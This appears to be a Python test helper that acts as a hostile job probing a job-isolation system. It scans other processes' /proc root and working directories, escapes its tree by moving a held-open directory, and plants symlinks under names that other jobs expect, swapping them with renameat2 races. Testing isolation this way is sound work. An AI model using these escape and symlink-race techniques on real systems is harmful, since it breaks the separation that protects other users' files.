"""Tries without end to reach the files of other jobs while they arrive, or to put something in their way:
`python3 -c TEXT VICTIM NAME`.

NAME is what the others are given, VICTIM a directory of the machine. Says `up` after the first round, `reached` and a path
for whatever it finds, and nothing else.
"""

import ctypes
import itertools
import os
import sys

victim, name = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE, AT_FDCWD = 2, -100
# A directory that is held open and moved while it is used is the usual way out of a tree.
os.makedirs("/work/held/inner")
held = os.open("/work/held/inner", os.O_RDONLY)


def found(path):
    print("reached", path, flush=True)


def look():
    for process in filter(str.isdigit, os.listdir("/proc")):
        for place in ("root/work", "cwd", "root/tmp"):
            path = f"/proc/{process}/{place}"
            try:
                names = os.listdir(path)
            except OSError:
                continue
            # Its own directories are among them: what is there has to be its own.
            if "arrived" in names:
                found(path)
    for path in (f"{victim}/precious", f"/proc/self/fd/{held}/" + "../" * 40 + f"{victim}/precious"):
        if os.path.exists(path):
            found(path)
    for steps in range(1, 12):
        path = "../" * steps
        try:
            if "arrived" in os.listdir(path):
                found(path)
            inner = os.open(path, os.O_RDONLY, dir_fd=held)
            if "arrived" in os.listdir(inner):
                found(f"{path} of what is held")
            os.close(inner)
        except OSError:
            pass


def lay():
    """The names that the others are given, as links to elsewhere, in each place that can be written to."""
    for place in ("/work", "/tmp", "/dev/shm"):
        link = f"{place}/{name}"
        try:
            os.symlink(victim, link)
            os.symlink(f"/proc/1/root{victim}", f"{place}/other")
            libc.renameat2(AT_FDCWD, link.encode(), AT_FDCWD, f"{place}/other".encode(), EXCHANGE)
            os.rename("/work/held/inner", "/work/moved")
            os.rename("/work/moved", "/work/held/inner")
        except OSError as error:
            found(f"an error: {error}")
        for path in (link, f"{place}/other"):
            os.unlink(path)


for round in itertools.count():
    lay()
    look()
    if round == 0:
        print("up", flush=True)
